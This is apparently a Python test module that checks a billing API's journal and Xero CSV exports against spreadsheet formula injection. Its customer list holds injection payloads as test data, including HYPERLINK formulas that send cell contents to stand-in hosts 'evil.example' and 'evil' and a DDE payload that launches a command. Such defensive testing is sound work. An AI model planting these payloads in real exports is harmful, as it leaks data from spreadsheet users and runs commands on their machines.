"""Formulas in the CSV exports (OWASP's CSV injection): customers whose ids and
names, and payments whose references, begin with =, +, - or @ (a tab or a carriage
return the API trims from them), then the journal's CSV and Xero CSV read back:
every text cell a spreadsheet would run is written with a ' before it, each hostile
id and reference is there as that text, and the amounts are the invoices' as the
API answered them, written as numbers."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from hostile_world import Case, World

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
# Customer ids take no spaces, '/', '?', '#', '%' or '\'.
CUSTOMERS = [
    ('=HYPERLINK("evil.example"&A1,"open")', "@SUM(1+1)", '=HYPERLINK("http://evil/?"&A1)'),
    ("+1+1", "-2+3", "+cmd|' /C calc'!A0"),
    ("-2+3", "=1+1", "-1+1"),
    ("@SUM(1+1)", "+1+1", "@SUM(A1:A9)"),
]
JOURNAL_FIGURES = {"debit", "credit"}
XERO_FIGURES = {"Amount"}


def _setup(world: World) -> list[dict]:
    """Plans of 10.00 and 30.00 a month; each customer subscribed an hour ago to the
    first, moved at once to the second (an invoice finalized at the change), which
    is then paid with the hostile reference."""
    run = world.run
    meter = f"{run}_csv"
    world.made_with(
        "all",
        "POST",
        "/api/v1/meters",
        {"code": meter, "name": "csv", "event_name": f"{run}.csv", "aggregation": "count"},
    )
    free = {"scheme": "per_unit", "unit_price": "0"}
    for code, fee in ((f"{run}_low", "10.00"), (f"{run}_high", "30.00")):
        world.made_with(
            "all",
            "POST",
            "/api/v1/plans",
            {
                "code": code,
                "name": code,
                "currency": "USD",
                "interval": "month",
                "base_fee": fee,
                "publish": True,
                "charges": [
                    {"meter": meter, "model": "overage", "included_units": "0", "pricing": free}
                ],
            },
        )
    start = (datetime.now(UTC) - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    paid = []
    for index, (external_id, name, reference) in enumerate(CUSTOMERS):
        # The run's mark after the formula, so that runs never share a customer.
        external_id = f"{external_id}{run}{index}"
        world.made_with(
            "all",
            "POST",
            "/api/v1/customers",
            {"external_id": external_id, "name": name, "currency": "USD", "timezone": "UTC"},
        )
        subscription = world.made_with(
            "all",
            "POST",
            "/api/v1/subscriptions",
            {"customer": external_id, "plan": f"{run}_low", "start": start},
        )
        changed = world.made_with(
            "all",
            "POST",
            f"/api/v1/subscriptions/{subscription['id']}/change-plan",
            {"plan": f"{run}_high", "effective": "immediate"},
        )
        invoice = (changed or {}).get("invoice") or {}
        invoice = world.made_with("read", "GET", f"/api/v1/invoices/{invoice.get('id')}", None)
        if invoice.get("status") != "finalized" or Decimal(invoice["amount_due"]) <= 0:
            raise SystemExit(f"the plan change's invoice is not one to pay: {invoice}")
        world.made_with(
            "all", "POST", f"/api/v1/invoices/{invoice['id']}/pay", {"reference": reference}
        )
        paid.append(
            {
                "customer": external_id,
                "reference": reference,
                "number": invoice["number"],
                "amount": invoice["amount_due"],
            }
        )
    return paid


def _rows(world: World, query: str) -> tuple[list[dict], list[str]]:
    status, data = world.call("finance:read", "GET", f"/api/v1/journal.csv?{query}")
    if status != 200:
        return [], [f"journal.csv: {status}"]
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))), []


def _formulas(rows: list[dict], figures: set[str]) -> list[str]:
    """Cells a spreadsheet would run: text beginning with a formula's character; a
    figure column holds a plain number."""
    found = []
    for row in rows:
        for column, cell in row.items():
            if column in figures:
                if not NUMBER.fullmatch(cell or ""):
                    found.append(f"{column}={cell!r} is not a number")
            elif cell and cell.startswith(FORMULA_STARTS):
                found.append(f"{column}={cell[:30]!r}")
    return found


def _journal_case(world: World, paid: list[dict], query: str) -> Case:
    def check() -> list[str]:
        rows, problems = _rows(world, query)
        problems += _formulas(rows, JOURNAL_FIGURES)[:5]
        for payment in paid:
            memo = "'" + payment["reference"]
            mine = [r for r in rows if r["document_type"] == "payment" and r["memo"] == memo]
            customers = {r["customer"] for r in mine}
            if customers != {"'" + payment["customer"]}:
                problems.append(f"payment {memo[:20]!r}: customers {customers}")
            debits = sorted(r["debit"] for r in mine)
            if debits != ["0.00", payment["amount"]]:
                problems.append(f"payment {memo[:20]!r}: debits {debits}, paid {payment['amount']}")
        return problems

    return Case("csv: journal.csv neutralises ids and references, keeps amounts", check)


def _xero_case(world: World, paid: list[dict], query: str) -> Case:
    def check() -> list[str]:
        rows, problems = _rows(world, f"{query}&format=xero")
        problems += _formulas(rows, XERO_FIGURES)[:5]
        for payment in paid:
            mine = [r for r in rows if r["Narration"] == f"payment {payment['number']}"]
            amounts = sorted(Decimal(r["Amount"]) for r in mine)
            expected = sorted([Decimal(payment["amount"]), -Decimal(payment["amount"])])
            if amounts != expected:
                problems.append(f"payment {payment['number']}: amounts {amounts}")
        return problems

    return Case("csv: journal.csv?format=xero neutralises text, keeps signed amounts", check)


def cases(world: World) -> list[Case]:
    paid = _setup(world)
    day = datetime.now(UTC).date()
    query = f"from={day - timedelta(days=1)}&to={day + timedelta(days=1)}"
    return [_journal_case(world, paid, query), _xero_case(world, paid, query)]
